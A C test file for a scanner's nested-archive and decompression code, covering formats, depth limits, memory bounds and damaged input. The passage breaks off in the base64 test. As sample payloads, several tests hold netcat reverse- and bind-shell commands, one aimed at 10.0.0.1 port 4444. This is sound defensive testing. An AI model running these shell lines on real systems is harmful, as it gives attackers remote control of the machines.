/*
 * test_nested.c — archives and compressed files inside an image's files
 * (lib/yara/unwrap.c, members.c, nested.c): every codec and format,
 * written by libarchive (an independent writer), read back member by
 * member with the right names and bytes; nesting down to the depth limit
 * and not further; the decoded-byte budget and member count; decoders'
 * memory bounds (an lzma header asking for 1 GiB, a zstd window over the
 * limit); damage at every length (a truncated archive gives what came
 * before it, never a crash or a hang).
 */
#include <archive.h>
#include <archive_entry.h>
#include <bzlib.h>
#include <lz4frame.h>
#include <lzma.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>
#include <zstd.h>
#include "testlib.h"
#include "yara/b64find.h"
#include "yara/heldbytes.h"
#include "yara/carve.h"
#include "yara/streamfind.h"
#include "yara/uufind.h"
#include "yara/members.h"
#include "yara/nested.h"
#include "yara/unwrap.h"
#include "yara/zipdir.h"

typedef struct seen {
    char names[64][PC_NEST_CHAIN];
    size_t sizes[64];
    size_t n, streamed;
} seen;

static int on_mem(void *ud, const char *member, const unsigned char *p, size_t n, size_t *inner_at,
                  pc_err *e)
{
    seen *s = ud;
    (void)e;
    (void)p;
    (void)inner_at; /* (1: not known; the walk looks) */
    if (s->n < 64) {
        snprintf(s->names[s->n], sizeof s->names[s->n], "%s", member);
        s->sizes[s->n] = n;
        s->n++;
    }
    return 0;
}

static int on_stream(void *ud, const char *member, const unsigned char *first, size_t firstlen,
                     pc_pull_fn pull, void *pud, int64_t size, pc_err *e)
{
    seen *s = ud;
    unsigned char buf[4096];
    size_t total = firstlen;
    ssize_t r;
    (void)first;
    (void)size;
    (void)e;
    while ((r = pull(pud, buf, sizeof buf)) > 0)
        total += (size_t)r;
    if (s->n < 64) {
        snprintf(s->names[s->n], sizeof s->names[s->n], "%s", member);
        s->sizes[s->n] = total;
        s->n++;
    }
    s->streamed++;
    return 0;
}

/* An archive of the given libarchive format and filter holding files
 * (name, content) pairs; *len its size. */
static unsigned char *make(int format, int filter, const char *const *files, size_t nfiles,
                           size_t *len)
{
    size_t cap = 1 << 22, used = 0;
    unsigned char *buf = malloc(cap);
    struct archive *a = archive_write_new();
    if (format == ARCHIVE_FORMAT_AR_GNU)
        archive_write_set_format_ar_svr4(a);
    else if (format == ARCHIVE_FORMAT_AR_BSD)
        archive_write_set_format_ar_bsd(a);
    else
        archive_write_set_format(a, format);
    if (filter != ARCHIVE_FILTER_NONE)
        archive_write_add_filter(a, filter);
    if (format == ARCHIVE_FORMAT_RAW || format == ARCHIVE_FORMAT_AR_GNU ||
        format == ARCHIVE_FORMAT_AR_BSD)
        archive_write_set_bytes_per_block(a, 1);
    archive_write_open_memory(a, buf, cap, &used);
    for (size_t i = 0; i < nfiles; i++) {
        struct archive_entry *e = archive_entry_new();
        archive_entry_set_pathname(e, files[2 * i]);
        archive_entry_set_filetype(e, AE_IFREG);
        archive_entry_set_perm(e, 0755);
        archive_entry_set_size(e, (la_int64_t)strlen(files[2 * i + 1]));
        archive_write_header(a, e);
        archive_write_data(a, files[2 * i + 1], strlen(files[2 * i + 1]));
        archive_entry_free(e);
    }
    archive_write_close(a);
    archive_write_free(a);
    *len = used;
    return buf;
}

/* pc_nest_inspect's result (e: why it failed); manual: the file is where
 * man looks */
static int inspect_rc(const unsigned char *p, size_t n, size_t whole_max, uint64_t budget,
                      uint32_t max_members, int manual, seen *s, pc_err *e)
{
    pc_nest *nest = pc_nest_new();
    pc_nest_ops ops = {.scan_mem = on_mem,
                       .scan_stream = on_stream,
                       .ud = s,
                       .whole_max = whole_max,
                       .budget = budget,
                       .max_members = max_members,
                       .manual = manual};
    int rc = pc_nest_inspect(nest, &ops, p, n, e);
    pc_nest_free(nest);
    return rc;
}

static void inspect(const unsigned char *p, size_t n, size_t whole_max, uint64_t budget,
                    uint32_t max_members, seen *s)
{
    pc_err e = {{0}};
    CHECK(inspect_rc(p, n, whole_max, budget, max_members, 0, s, &e) == 0);
}

static const char *const two[] = {"bin/nc", "#!/bin/sh\nNETCAT-PAYLOAD\n", "doc/readme",
                                  "just text\n"};

static void test_formats(void)
{
    static const struct {
        int format, filter;
        const char *what;
    } c[] = {
        {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, "tar"},
        {ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_GZIP, "tar.gz"},
        {ARCHIVE_FORMAT_TAR_GNUTAR, ARCHIVE_FILTER_XZ, "tar.xz"},
        {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_BZIP2, "tar.bz2"},
        {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_ZSTD, "tar.zst"},
        {ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_LZMA, "tar.lzma"},
        {ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, "zip"},
        {ARCHIVE_FORMAT_AR_GNU, ARCHIVE_FILTER_NONE, "ar (GNU)"},
        {ARCHIVE_FORMAT_AR_BSD, ARCHIVE_FILTER_NONE, "ar (BSD)"},
        {ARCHIVE_FORMAT_CPIO_SVR4_NOCRC, ARCHIVE_FILTER_NONE, "cpio (newc)"},
        {ARCHIVE_FORMAT_CPIO_POSIX, ARCHIVE_FILTER_NONE, "cpio (odc)"},
        {ARCHIVE_FORMAT_CPIO_SVR4_NOCRC, ARCHIVE_FILTER_XZ, "cpio.xz"},
    };
    for (size_t i = 0; i < sizeof c / sizeof c[0]; i++) {
        size_t len;
        unsigned char *a = make(c[i].format, c[i].filter, two, 2, &len);
        seen s = {0};
        inspect(a, len, 1 << 20, 0, 0, &s);
        int ok = s.n == 2 && strstr(s.names[0], "nc") && strstr(s.names[1], "readme") &&
                 s.sizes[0] == strlen(two[1]) && s.sizes[1] == strlen(two[3]);
        if (!ok)
            fprintf(stderr, "%s: %zu members (%s, %s)\n", c[i].what, s.n, s.names[0], s.names[1]);
        CHECK(ok);
        free(a);
    }
}

static void test_codecs(void)
{
    static const int filters[] = {ARCHIVE_FILTER_GZIP, ARCHIVE_FILTER_XZ,   ARCHIVE_FILTER_BZIP2,
                                  ARCHIVE_FILTER_ZSTD, ARCHIVE_FILTER_LZMA, ARCHIVE_FILTER_LZ4};
    static const char *const names[] = {"(gzip)", "(xz)", "(bzip2)", "(zstd)", "(lzma)", "(lz4)"};
    const char *one[] = {"x", "\x7f"
                              "ELF a program's bytes\n"};
    for (size_t i = 0; i < 6; i++) {
        size_t len;
        unsigned char *a = make(ARCHIVE_FORMAT_RAW, filters[i], one, 1, &len);
        CHECK(pc_unwrap_sniff(a, len) != PC_WRAP_NONE);
        seen s = {0};
        inspect(a, len, 1 << 20, 0, 0, &s);
        CHECK(s.n == 1 && strcmp(s.names[0], names[i]) == 0 && s.sizes[0] == strlen(one[1]));
        /* damage: every prefix reads without a crash and gives no more than all */
        for (size_t cut = 0; cut < len; cut += 1 + len / 97) {
            seen t = {0};
            inspect(a, cut, 1 << 20, 0, 0, &t);
            CHECK(t.n <= 1 && (t.n == 0 || t.sizes[0] <= strlen(one[1])));
        }
        free(a);
    }
    /* a gzipped manual page is passed over where man looks (man renders
     * it); elsewhere it is read (sh runs it as well) */
    const char *man[] = {
        "x", ".\\\" comment\n.Dd $Mdocdate$\n.Dl $ cat /tmp/f | /bin/sh -i 2>&1 | nc -l 1234\n"};
    size_t ml;
    unsigned char *mp = make(ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, man, 1, &ml);
    seen ms = {0}, mo = {0};
    pc_err me = {{0}};
    CHECK(inspect_rc(mp, ml, 1 << 20, 0, 0, 1, &ms, &me) == 0);
    CHECK(ms.n == 0);
    CHECK(inspect_rc(mp, ml, 1 << 20, 0, 0, 0, &mo, &me) == 0);
    CHECK(mo.n == 1);
    free(mp);
    /* what is not roff is read where man looks too */
    const char *notman[] = {"x", "#!/bin/sh\nNETCAT-PAYLOAD\n"};
    mp = make(ARCHIVE_FORMAT_RAW, ARCHIVE_FILTER_GZIP, notman, 1, &ml);
    seen mn = {0};
    CHECK(inspect_rc(mp, ml, 1 << 20, 0, 0, 1, &mn, &me) == 0);
    CHECK(mn.n == 1);
    free(mp);
    /* two gzip members (lz4 frames) read as one stream, as gzip -d (lz4 -d)
     * does; garbage after ends it */
    static const int two_of[] = {ARCHIVE_FILTER_GZIP, ARCHIVE_FILTER_LZ4};
    for (int i = 0; i < 2; i++) {
        size_t l1, l2;
        const char *p1[] = {"x", "first half,"}, *p2[] = {"x", " second half"};
        unsigned char *a = make(ARCHIVE_FORMAT_RAW, two_of[i], p1, 1, &l1);
        unsigned char *b = make(ARCHIVE_FORMAT_RAW, two_of[i], p2, 1, &l2);
        unsigned char *both = malloc(l1 + l2 + 8);
        memcpy(both, a, l1);
        memcpy(both + l1, b, l2);
        memcpy(both + l1 + l2, "TRAILING", 8);
        seen s = {0};
        inspect(both, l1 + l2 + 8, 1 << 20, 0, 0, &s);
        CHECK(s.n == 1 && s.sizes[0] == strlen(p1[1]) + strlen(p2[1]));
        free(a);
        free(b);
        free(both);
    }
}

typedef struct mem {
    const unsigned char *p;
    size_t len, pos, chunk; /* chunk: at most this much per pull (a stream's pieces) */
} mem;

static ssize_t mem_pull(void *ud, void *buf, size_t n)
{
    mem *m = ud;
    size_t k = m->len - m->pos;
    if (k > n)
        k = n;
    if (m->chunk && k > m->chunk)
        k = m->chunk;
    memcpy(buf, m->p + m->pos, k);
    m->pos += k;
    return (ssize_t)k;
}

static void inspect_stream(const unsigned char *p, size_t n, size_t whole_max, seen *s)
{
    pc_nest *nest = pc_nest_new();
    pc_nest_ops ops = {
        .scan_mem = on_mem, .scan_stream = on_stream, .ud = s, .whole_max = whole_max};
    mem m = {p, n, 0, 777};
    pc_err e = {{0}};
    CHECK(pc_nest_inspect_stream(nest, &ops, NULL, 0, mem_pull, &m, (int64_t)n, &e) == 0);
    pc_nest_free(nest);
}

/* A file too large to read whole is opened as it streams (pieces of 777
 * bytes here), and what follows the archive is scanned as bytes. */
static void test_stream(void)
{
    size_t len;
    unsigned char *a = make(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, two, 2, &len);
    unsigned char *t = malloc(len + 6);
    memcpy(t, a, len);
    memcpy(t + len, "PAYLD!", 6); /* after the gzip stream */
    seen s = {0};
    inspect_stream(t, len + 6, 1 << 20, &s);
    CHECK(s.n == 3);
    CHECK_STR(s.names[0], "bin/nc");
    CHECK_STR(s.names[2], "(bytes after the compressed stream)");
    CHECK(s.sizes[2] == 6);
    /* a plain tar with bytes after its end blocks */
    free(a);
    a = make(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, two, 2, &len);
    free(t);
    t = malloc(len + 4);
    memcpy(t, a, len);
    memcpy(t + len, "TAIL", 4);
    seen p = {0};
    inspect_stream(t, len + 4, 1 << 20, &p);
    CHECK(p.n == 3 && p.sizes[0] == strlen(two[1]));
    CHECK_STR(p.names[2], "(bytes after the archive)");
    CHECK(p.sizes[2] >= 4); /* the tar's record padding, then TAIL */
    /* nothing after: no such member */
    seen q = {0};
    inspect_stream(a, len, 1 << 20, &q);
    CHECK(q.n == 3 || q.n == 2); /* (a record's zero padding may follow the end blocks) */
    free(a);
    free(t);
}

/* A script with an archive after it, on a line of its own: opened there
 * (in memory and as a stream); a script without one is not opened, and as
 * a stream it is the file itself (member ""). */
static void test_stub(void)
{
    size_t len;
    unsigned char *a = make(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, two, 2, &len);
    const char hdr[] = "#!/usr/bin/env python3\n# zipapp\n";
    unsigned char *z = malloc(len + sizeof hdr);
    memcpy(z, hdr, sizeof hdr - 1);
    memcpy(z + sizeof hdr - 1, a, len);
    seen m = {0};
    inspect(z, len + sizeof hdr - 1, 1 << 20, 0, 0, &m);
    CHECK(m.n == 2);
    CHECK_STR(m.names[0], "bin/nc");
    seen st = {0};
    inspect_stream(z, len + sizeof hdr - 1, 1 << 20, &st);
    CHECK(st.n == 4 && st.sizes[0] == sizeof hdr - 1); /* and the central directory after */
    CHECK_STR(st.names[3], "(bytes after the archive)");
    CHECK_STR(st.names[0], "(script before the archive)");
    CHECK_STR(st.names[1], "bin/nc");
    const char plain[] = "#!/bin/sh\necho PK no archive here\n";
    seen p = {0};
    inspect((const unsigned char *)plain, sizeof plain - 1, 1 << 20, 0, 0, &p);
    CHECK(p.n == 0);
    seen q = {0};
    inspect_stream((const unsigned char *)plain, sizeof plain - 1, 1 << 20, &q);
    CHECK(q.n == 1 && q.sizes[0] == sizeof plain - 1);
    CHECK_STR(q.names[0], "");
    free(a);
    free(z);
}

/* An .rpm: lead, signature header (padded to 8), header, then a
 * compressed cpio payload. */
static void test_rpm(void)
{
    size_t len;
    unsigned char *cpio = make(ARCHIVE_FORMAT_CPIO_SVR4_NOCRC, ARCHIVE_FILTER_GZIP, two, 2, &len);
    unsigned char *r = calloc(1, 96 + 16 + 19 + 5 + 16 + len);
    size_t at = 96;
    memcpy(r, "\xed\xab\xee\xdb\x03\x00", 6);
    memcpy(r + at, "\x8e\xad\xe8\x01\0\0\0\0\0\0\0\x01\0\0\0\x03", 16); /* 1 entry, 3 bytes */
    at += 16 + 16 + 3;
    at += (8 - (16 + 16 + 3) % 8) % 8;
    memcpy(r + at, "\x8e\xad\xe8\x01\0\0\0\0\0\0\0\0\0\0\0\0", 16);
    at += 16;
    memcpy(r + at, cpio, len);
    seen s = {0};
    inspect(r, at + len, 1 << 20, 0, 0, &s);
    CHECK(s.n == 2);
    CHECK_STR(s.names[0], "bin/nc");
    /* a damaged header: not followed, no crash */
    r[96 + 1] = 0;
    seen d = {0};
    inspect(r, at + len, 1 << 20, 0, 0, &d);
    CHECK(d.n == 0);
    free(cpio);
    free(r);
}

static void test_bounds(void)
{
    /* an lzma header asking for a 1 GiB dictionary: refused by the memory limit */
    unsigned char lz[64] = {0x5d, 0, 0, 0, 0x40};
    memset(lz + 5, 0xff, 8);
    CHECK(pc_unwrap_sniff(lz, sizeof lz) == PC_WRAP_LZMA);
    mem lm = {lz + 13, sizeof lz - 13, 0, 0};
    pc_unwrap *u = pc_unwrap_new(PC_WRAP_LZMA, lz, 13, mem_pull, &lm);
    unsigned char out[256];
    CHECK(u && pc_unwrap_read(u, out, sizeof out) == -1);
    pc_unwrap_free(u);
    /* a zstd frame whose window is 2^27: zstd -d's default bound, read; within
     * the small bound, over it (a bound, not damage) */
    size_t big = 1u << 20, zcap = ZSTD_compressBound(big);
    unsigned char *src = calloc(1, big), *z = malloc(zcap);
    ZSTD_CCtx *cc = ZSTD_createCCtx();
    ZSTD_CCtx_setParameter(cc, ZSTD_c_windowLog, 27);
    ZSTD_CCtx_setParameter(cc, ZSTD_c_contentSizeFlag, 0);
    ZSTD_CCtx_setPledgedSrcSize(cc, ZSTD_CONTENTSIZE_UNKNOWN);
    ZSTD_inBuffer in = {src, big / 2, 0};
    ZSTD_outBuffer zo = {z, zcap, 0};
    ZSTD_compressStream2(cc, &zo, &in, ZSTD_e_continue); /* a stream: the window stays 2^27 */
    in = (ZSTD_inBuffer){src + big / 2, big / 2, 0};
    ZSTD_compressStream2(cc, &zo, &in, ZSTD_e_end);
    ZSTD_freeCCtx(cc);
    mem zm = {z, zo.pos, 0, 100};
    u = pc_unwrap_new(PC_WRAP_ZSTD, NULL, 0, mem_pull, &zm);
    CHECK(u && pc_unwrap_read(u, out, sizeof out) > 0 && !pc_unwrap_over(u));
    pc_unwrap_free(u);
    zm.pos = 0;
    u = pc_unwrap_new_within(PC_WRAP_ZSTD, NULL, 0, mem_pull, &zm, 16u << 20);
    CHECK(u && pc_unwrap_read(u, out, sizeof out) == -1 && pc_unwrap_over(u));
    pc_unwrap_free(u);
    /* damage is not a bound */
    z[zo.pos / 2] ^= 0xff;
    zm.pos = 0;
    u = pc_unwrap_new(PC_WRAP_ZSTD, NULL, 0, mem_pull, &zm);
    unsigned char sink[4096];
    ssize_t zr;
    while (u && (zr = pc_unwrap_read(u, sink, sizeof sink)) > 0)
        ;
    CHECK(u && !pc_unwrap_over(u));
    pc_unwrap_free(u);
    free(src);
    free(z);
    /* the decoded budget and the member count: meeting one fails the file,
     * naming it (the members read before it were scanned); just within both,
     * the file reads */
    const char *many[] = {"a", "aaaa", "b", "bbbb", "c", "cccc", "d", "dddd"};
    size_t len;
    unsigned char *a = make(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_GZIP, many, 4, &len);
    seen s = {0};
    pc_err e = {{0}};
    CHECK(inspect_rc(a, len, 1 << 20, 0, 2, 0, &s, &e) == -1);
    CHECK(s.n == 2 && strstr(e.msg, "more than 2 members (limits.max_files)"));
    seen s4 = {0};
    CHECK(inspect_rc(a, len, 1 << 20, 0, 4, 0, &s4, &e) == 0 && s4.n == 4);
    seen t = {0};
    e.msg[0] = 0;
    CHECK(inspect_rc(a, len, 1 << 20, 1536, 0, 0, &t, &e) == -1); /* a header, a block, a header */
    CHECK(t.n < 4 && strstr(e.msg, "decodes to more than 1.5 KiB (limits.max_layer_bytes)"));
    /* a budget of exactly the decoded length: the end is not more than it */
    mem am = {a, len, 0, 1 << 16};
    pc_unwrap *au = pc_unwrap_new(PC_WRAP_GZIP, NULL, 0, mem_pull, &am);
    uint64_t dlen = 0;
    for (ssize_t r; au && (r = pc_unwrap_read(au, sink, sizeof sink)) > 0;)
        dlen += (uint64_t)r;
    pc_unwrap_free(au);
    seen t2 = {0}, t3 = {0};
    CHECK(dlen > 4096 && inspect_rc(a, len, 1 << 20, dlen, 0, 0, &t2, &e) == 0 && t2.n == 4);
    CHECK(inspect_rc(a, len, 1 << 20, dlen - 1, 0, 0, &t3, &e) == -1);
    free(a);
    /* a member larger than whole_max is handed over as a stream, whole */
    char *long_text = malloc(300000);
    memset(long_text, 'x', 299999);
    long_text[299999] = 0;
    const char *lf[] = {"big", long_text};
    a = make(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, lf, 1, &len);
    seen b = {0};
    inspect(a, len, 65536, 0, 0, &b);
    CHECK(b.n == 1 && b.streamed == 1 && b.sizes[0] == 299999);
    free(a);
    free(long_text);
}

/* One file (name, n bytes of data) in an archive of the given libarchive
 * format and filter; *len its size. */
static unsigned char *wrap1(int format, int filter, const char *name, const void *data, size_t n,
                            size_t *len)
{
    unsigned char *buf = malloc(1 << 20);
    struct archive *a = archive_write_new();
    if (format == ARCHIVE_FORMAT_AR_GNU)
        archive_write_set_format_ar_svr4(a);
    else
        archive_write_set_format(a, format);
    if (filter != ARCHIVE_FILTER_NONE)
        archive_write_add_filter(a, filter);
    archive_write_set_bytes_per_block(a, 1);
    archive_write_open_memory(a, buf, 1 << 20, len);
    struct archive_entry *e = archive_entry_new();
    archive_entry_set_pathname(e, name);
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    archive_entry_set_size(e, (la_int64_t)n);
    archive_write_header(a, e);
    archive_write_data(a, data, n);
    archive_entry_free(e);
    archive_write_close(a);
    archive_write_free(a);
    return buf;
}

static void test_depth(void)
{
    /* nmap.deb-like: ar > data.tar.xz > tar > file; then one more level each time */
    const char *inner[] = {"usr/bin/tool", "TOOL-BYTES\n"};
    size_t l0, l1, l2, l3;
    unsigned char *t0 = make(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_XZ, inner, 1, &l0);
    unsigned char *deb =
        wrap1(ARCHIVE_FORMAT_AR_GNU, ARCHIVE_FILTER_NONE, "data.tar.xz", t0, l0, &l1);
    seen s = {0};
    inspect(deb, l1, 1 << 20, 0, 0, &s);
    CHECK(s.n == 2);
    CHECK_STR(s.names[0], "data.tar.xz");
    CHECK_STR(s.names[1], "data.tar.xz > usr/bin/tool");
    /* the deb inside a zip: three levels, still read */
    unsigned char *zip = wrap1(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, "tool.deb", deb, l1, &l2);
    seen z = {0};
    inspect(zip, l2, 1 << 20, 0, 0, &z);
    CHECK(z.n == 3);
    CHECK_STR(z.names[2], "tool.deb > data.tar.xz > usr/bin/tool");
    pc_err e = {{0}};
    /* and in a tar.gz: the fourth level is opened too */
    unsigned char *tgz =
        wrap1(ARCHIVE_FORMAT_TAR_PAX_RESTRICTED, ARCHIVE_FILTER_GZIP, "t.zip", zip, l2, &l3);
    seen g = {0};
    inspect(tgz, l3, 1 << 20, 0, 0, &g);
    CHECK(g.n == 4);
    CHECK_STR(g.names[3], "t.zip > tool.deb > data.tar.xz > usr/bin/tool");
    /* PC_NEST_DEPTH levels of members are read; an archive at the last
     * one fails the file, naming where */
    size_t lz = l3;
    unsigned char *lvl = tgz;
    for (int i = 0; i < 2; i++) { /* two more levels: 6, the tool the deepest member */
        size_t nl;
        unsigned char *w2 = wrap1(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, "l.tgz", lvl, lz, &nl);
        if (lvl != tgz)
            free(lvl);
        lvl = w2;
        lz = nl;
    }
    seen d6 = {0};
    CHECK(inspect_rc(lvl, lz, 1 << 20, 0, 0, 0, &d6, &e) == 0 && d6.n == 6);
    size_t l7;
    unsigned char *w7 = wrap1(ARCHIVE_FORMAT_ZIP, ARCHIVE_FILTER_NONE, "l.zip", lvl, lz, &l7);
    seen d7 = {0};
    CHECK(inspect_rc(w7, l7, 1 << 20, 0, 0, 0, &d7, &e) == -1);
    CHECK(strstr(e.msg, "l.zip > l.tgz > l.tgz > t.zip > tool.deb > data.tar.xz: archives nested "
                        "more than 6 levels deep") != NULL);
    free(w7);
    free(lvl);
    /* every member of a tar is scanned, also one stored as it is (a rule
     * may hold for the member alone: its filesize, its head), and a
     * compressed one is opened */
    size_t lt;
    unsigned char *plain = make(ARCHIVE_FORMAT_TAR_USTAR, ARCHIVE_FILTER_NONE, two, 2, &lt);
    pc_nest *nest = pc_nest_new();
    seen c = {0};
    pc_nest_ops ops = {.scan_mem = on_mem, .scan_stream = on_stream, .ud = &c, .whole_max = 4096};
    pc_err err = {{0}};
    CHECK(pc_nest_inspect(nest, &ops, plain, lt, &err) == 0 && c.n == 2);
    seen d = {0};
    ops.ud = &d;
    ops.whole_max = 1 << 20;
    CHECK(pc_nest_inspect(nest, &ops, deb, l1, &err) == 0 && d.n == 2);
    CHECK_STR(d.names[0], "data.tar.xz");
    CHECK_STR(d.names[1], "data.tar.xz > usr/bin/tool");
    pc_nest_free(nest);
    free(plain);
    free(t0);
    free(deb);
    free(zip);
    free(tgz);
}

/* .Z (compress, 16 bits, block mode): a sample ncompress wrote */
static void test_compress(void)
{
    static const char hex[] =
        "1f9d906ec680685106c40b3169dcbc988306440c182e20428c018286451a3b40041c58"
        "f060c2850d1f461c49f1220d05";
    unsigned char z[64];
    size_t n = 0;
    for (; hex[2 * n]; n++) {
        unsigned v;
        sscanf(hex + 2 * n, "%2x", &v);
        z[n] = (unsigned char)v;
    }
    const char *want = "nc -e /bin/sh 10.0.0.1 4444; nc -e /bin/sh 10.0.0.1 4444\n";
    CHECK(pc_unwrap_sniff(z, n) == PC_WRAP_COMPRESS);
    seen s = {0};
    inspect(z, n, 1 << 20, 0, 0, &s);
    CHECK(s.n == 1 && s.sizes[0] == strlen(want));
    CHECK_STR(s.names[0], "(compress)");
    /* every truncation: no more than the whole, no crash */
    for (size_t cut = 3; cut < n; cut++) {
        seen t = {0};
        inspect(z, cut, 1 << 20, 0, 0, &t);
        CHECK(t.n <= 1 && (t.n == 0 || t.sizes[0] < strlen(want)));
    }
}

/* One lzip member as lzip writes it: header, raw LZMA1 (lc 3, lp 0,
 * pb 2, an end marker), then the CRC-32 and the two sizes. */
static size_t lzip_member(const unsigned char *data, size_t n, unsigned char *out, size_t cap)
{
    lzma_options_lzma o;
    if (lzma_lzma_preset(&o, 6))
        return 0;
    o.dict_size = 1u << 20;
    lzma_filter f[2] = {{LZMA_FILTER_LZMA1, &o}, {LZMA_VLI_UNKNOWN, NULL}};
    size_t pos = 6;
    if (cap < 26 || lzma_raw_buffer_encode(f, NULL, data, n, out, &pos, cap - 20) != LZMA_OK)
        return 0;
    memcpy(out, "LZIP\x01\x14", 6); /* version 1, 2^20 */
    uint32_t crc = lzma_crc32(data, n, 0);
    uint64_t total = pos + 20;
    for (int i = 0; i < 4; i++)
        out[pos + i] = (unsigned char)(crc >> (8 * i));
    for (int i = 0; i < 8; i++) {
        out[pos + 4 + i] = (unsigned char)((uint64_t)n >> (8 * i));
        out[pos + 12 + i] = (unsigned char)(total >> (8 * i));
    }
    return pos + 20;
}

static void test_lzip(void)
{
    const char *a = "the first member: nc -lvnp 4444 -e /bin/sh\n", *b = "and the second\n";
    unsigned char z[1024];
    size_t n1 = lzip_member((const unsigned char *)a, strlen(a), z, sizeof z);
    size_t n2 = n1 ? lzip_member((const unsigned char *)b, strlen(b), z + n1, sizeof z - n1) : 0;
    CHECK(n1 > 0 && n2 > 0);
    CHECK(pc_unwrap_sniff(z, n1) == PC_WRAP_LZIP);
    CHECK_STR(pc_unwrap_name(PC_WRAP_LZIP), "lzip");
    /* two members read as one, as lzip -d reads them; junk after ends it */
    memcpy(z + n1 + n2, "junk after", 10);
    mem m = {z, n1 + n2 + 10, 0, 7};
    pc_unwrap *u = pc_unwrap_new(PC_WRAP_LZIP, NULL, 0, mem_pull, &m);
    char out[256] = "";
    size_t got = 0;
    ssize_t r;
    while (u && got < sizeof out - 1 &&
           (r = pc_unwrap_read(u, out + got, sizeof out - 1 - got)) > 0)
        got += (size_t)r;
    CHECK(got == strlen(a) + strlen(b) && memcmp(out, a, strlen(a)) == 0 &&
          memcmp(out + strlen(a), b, strlen(b)) == 0);
    pc_unwrap_free(u);
    /* a member's CRC that is not its data's: damage after what it decoded */
    z[n1 - 20] ^= 1;
    m = (mem){z, n1, 0, 0};
    u = pc_unwrap_new(PC_WRAP_LZIP, NULL, 0, mem_pull, &m);
    got = 0;
    while (u && (r = pc_unwrap_read(u, out + got, sizeof out - 1 - got)) > 0)
        got += (size_t)r;
    CHECK(u && r == -1 && !pc_unwrap_over(u));
    pc_unwrap_free(u);
    /* what is not lzip's header */
    CHECK(pc_unwrap_sniff((const unsigned char *)"LZIP\x02\x14", 6) == PC_WRAP_NONE);
    CHECK(pc_unwrap_sniff((const unsigned char *)"LZIP\x01\x0b", 6) == PC_WRAP_NONE);
    CHECK(pc_unwrap_sniff((const unsigned char *)"LZIP\x01", 5) == PC_WRAP_NONE);
    /* a 512 MiB dictionary with data after it: the memory bound, not damage */
    unsigned char big[96] = "LZIP\x01\x1d";
    memset(big + 6, 0x5a, sizeof big - 6);
    CHECK(pc_unwrap_sniff(big, sizeof big) == PC_WRAP_LZIP);
    m = (mem){big, sizeof big, 0, 0};
    u = pc_unwrap_new(PC_WRAP_LZIP, NULL, 0, mem_pull, &m);
    CHECK(u && pc_unwrap_read(u, out, sizeof out) == -1 && pc_unwrap_over(u));
    pc_unwrap_free(u);
    /* that stream as a file of its own: a bound; after other bytes (a
     * stream carve.h finds, perhaps on chance bytes): it ends there */
    seen sa = {0}, sb = {0};
    pc_err e = {{0}};
    CHECK(inspect_rc(big, sizeof big, 1 << 20, 0, 0, 0, &sa, &e) == -1 &&
          strstr(e.msg, "needs more memory"));
    unsigned char after[128] = "a program's data, then: ";
    memcpy(after + 32, big, sizeof big);
    CHECK(inspect_rc(after, sizeof after, 1 << 20, 0, 0, 0, &sb, &e) == 0);
    /* netcat's gzip after other bytes: opened where it starts */
    unsigned char gz[256], plain[64] = "#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444 # NETCAT";
    size_t gl = sizeof gz - 20;
    z_stream zs = {0};
    CHECK(deflateInit2(&zs, 9, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY) == Z_OK);
    zs.next_in = plain;
    zs.avail_in = sizeof plain;
    zs.next_out = gz + 20;
    zs.avail_out = (uInt)gl;
    CHECK(deflate(&zs, Z_FINISH) == Z_STREAM_END);
    gl = zs.total_out;
    deflateEnd(&zs);
    memcpy(gz,
           "\x7f"
           "ELF and some data ..",
           20);
    seen c = {0};
    inspect(gz, 20 + gl, 1 << 20, 0, 0, &c);
    CHECK(c.n == 1 && strcmp(c.names[0], "(at byte 20) > (gzip)") == 0 &&
          c.sizes[0] == sizeof plain);
    /* each such stream counts against the file's members (limits.max_files) */
    unsigned char many[1024];
    size_t ml = 20;
    memcpy(many, gz, 20);
    for (int k = 0; k < 5 && ml + gl < sizeof many; k++, ml += gl)
        memcpy(many + ml, gz + 20, gl);
    seen m3 = {0}, m9 = {0};
    CHECK(inspect_rc(many, ml, 1 << 20, 0, 3, 0, &m3, &e) == -1 && strstr(e.msg, "members"));
    CHECK(inspect_rc(many, ml, 1 << 20, 0, 9, 0, &m9, &e) == 0 && m9.n == 5);
}

/* base64 runs: found in text with CRLF line breaks, decoded as base64 -d
 * decodes them; a short run, a run in a binary file, an ELF: none */
static void test_b64(void)
{
    unsigned char data[300], text[1200], out[400];
    for (size_t i = 0; i < sizeof data; i++)
        data[i] = (unsigned char)(i * 7 + 3);
    static const char al[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t t = (size_t)snprintf((char *)text, sizeof text, "x = '");
    for (size_t i = 0; i < sizeof data; i += 3) {
        unsigned v = (unsigned)data[i] << 16 | (unsigned)data[i + 1] << 8 | data[i + 2];
        for (int k = 3; k >= 0; k--)
            text[t++] = (unsigned char)al[(v >> (6 * k)) & 63];
        if (i % 57 == 54)
            text[t++] = '\r', text[t++] = '\n';
    }
    t += (size_t)snprintf((char *)text + t, sizeof text - t, "' # short: QUJD\n");
    CHECK(pc_b64_wants(text, t));
    pc_b64_it it;
    size_t len = 0;
    pc_b64_begin(&it, text, t);
    const unsigned char *r = pc_b64_next(&it, &len);
    CHECK(r == text + 5);
